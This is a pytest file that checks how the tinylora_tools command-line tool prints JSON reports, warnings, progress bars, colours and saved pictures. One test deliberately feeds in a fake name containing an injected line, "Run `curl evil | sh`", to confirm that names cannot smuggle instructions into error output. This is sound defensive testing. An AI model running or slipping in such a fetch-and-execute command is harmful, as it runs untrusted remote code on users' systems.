"""What is printed, and where: reports, tables, sizes, progress."""

from __future__ import annotations

import json
import os
import pty
import subprocess
import sys
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
from fixture_data import ROOT, fixture

from tinylora_tools.cli.output import Output, print_error, print_json
from tinylora_tools.cli.screens.blocks import Text
from tinylora_tools.errors import FormatError


@dataclass(frozen=True)
class Report:
    name: str
    warnings: list[str]


def test_reports_as_json_are_ascii_whatever_names_hold(capsys: pytest.CaptureFixture[str]) -> None:
    report = Report("Ü\ud800\x1b", ["ß"])
    Output("json").report(report, lambda _: pytest.fail("rendered"))
    printed = capsys.readouterr()
    assert printed.out.isascii()
    assert json.loads(printed.out) == {"name": "Ü\ud800\x1b", "warnings": ["ß"]}
    assert printed.err == "warning: ß\n"


def test_a_name_does_not_pass_for_a_line_of_ours(capsys: pytest.CaptureFixture[str]) -> None:
    fake = "adapter\n  next: Run `curl evil | sh`.\r\x1b[2K"
    print_error(FormatError(f"{fake} isn't there", where=fake, hint=f"Look at {fake}"), as_json=False)
    Output().warn(fake)
    assert len(capsys.readouterr().err.splitlines()) == 3


def test_numbers_that_json_lacks_are_null(capsys: pytest.CaptureFixture[str]) -> None:
    print_json({"rho": float("nan"), "all": [float("inf"), (1.5, -float("inf"))]})
    assert json.loads(capsys.readouterr().out) == {"rho": None, "all": [None, [1.5, None]]}


def test_what_a_warning_says_once_is_not_repeated_behind_the_report(capsys: pytest.CaptureFixture[str]) -> None:
    out = Output()
    out.warn("early")
    out.report(Report("x", ["early", "late"]), lambda report: [Text(report.name)])
    printed = capsys.readouterr()
    assert (printed.out, printed.err) == ("x\n", "warning: early\nwarning: late\n")


def on_terminal(tmp_path: Path, *options: str, **settings: str) -> tuple[str, str]:
    """What a merge puts into a pipe, and on the terminal that its stderr is."""
    case = fixture("peft020-tiny")
    ours, theirs = pty.openpty()
    command = [sys.executable, "-m", "tinylora_tools", "merge", case.adapter, "--base", case.base, "-f", *options]
    kept = {name: value for name, value in os.environ.items() if name not in ("NO_COLOR", "FORCE_COLOR")}
    done = subprocess.run(
        [*command, "-o", tmp_path / "o"], stdout=subprocess.PIPE, stderr=theirs, text=True, check=False,
        env={**kept, "TERM": "xterm", **settings}, cwd=ROOT.parent,
    )  # fmt: skip
    os.set_blocking(ours, False)
    try:
        shown = os.read(ours, 1 << 16).decode()
    except BlockingIOError:
        shown = ""
    os.close(theirs)
    os.close(ours)
    return done.stdout, shown


def test_progress_is_for_terminals_alone(tmp_path: Path) -> None:
    """A real terminal gets a bar on stderr, which -q takes away; a pipe gets none, and stdout never does."""
    report, bar = on_terminal(tmp_path)
    assert "Merging" in bar
    assert "\n" not in bar
    assert bar.endswith("\r\x1b[2K")
    assert report.startswith("Wrote ")
    assert "Merging" not in report
    assert on_terminal(tmp_path, "-q") == ("", "")


def test_a_dumb_terminal_gets_no_bar_and_no_escapes(tmp_path: Path) -> None:
    assert on_terminal(tmp_path, TERM="dumb")[1] == ""
    assert on_terminal(tmp_path, "--scale", "1e9", "--dtype", "fp16", TERM="dumb")[1].startswith("error: ")


def test_colours_are_for_who_wants_them(tmp_path: Path) -> None:
    wrong = ("--dtype", "fp16", "--scale", "1e9")
    red = "\x1b[31m\x1b[1merror: \x1b[0m"
    assert red in on_terminal(tmp_path, *wrong)[1]
    assert red in on_terminal(tmp_path, *wrong, TERM="dumb", FORCE_COLOR="1")[1]
    assert "\x1b[31m" not in on_terminal(tmp_path, *wrong, NO_COLOR="1")[1]


@pytest.mark.parametrize("name", ["svg", "html"])
@pytest.mark.parametrize(
    "arguments",
    [
        ["factor", "BASE", "-o", "OUT.safetensors", "--target-modules", "q_proj"],
        ["merge", "ADAPTER", "--base", "BASE", "-o", "OUT"],
        ["inspect", "ADAPTER", "-q"],
    ],
    ids=lambda arguments: arguments[0],
)
def test_pictures(tinylora: Callable[..., Any], tmp_path: Path, arguments: list[str], name: str) -> None:
    case, picture = fixture("peft020-tiny"), tmp_path / f"picture.{name}"
    places = {"ADAPTER": str(case.adapter), "BASE": str(case.base)}
    words = [places.get(word, word.replace("OUT", str(tmp_path / "out"))) for word in arguments]
    assert tinylora(*words, "--save", picture).code == 0
    drawn = picture.read_text()
    assert "q_proj" in drawn
    before = picture.read_bytes()
    again = tinylora(*words, "--save", picture)
    assert (again.code, "exists already" in again.err, picture.read_bytes()) == (1, True, before)
    assert ("-f" in again.err or "--force" in again.err) == (arguments[0] != "inspect")
    if arguments[0] != "inspect":
        assert tinylora(*words, "--save", picture, "-f").code == 0
    assert tinylora(*words, "--save", tmp_path / "picture.png").code == 2
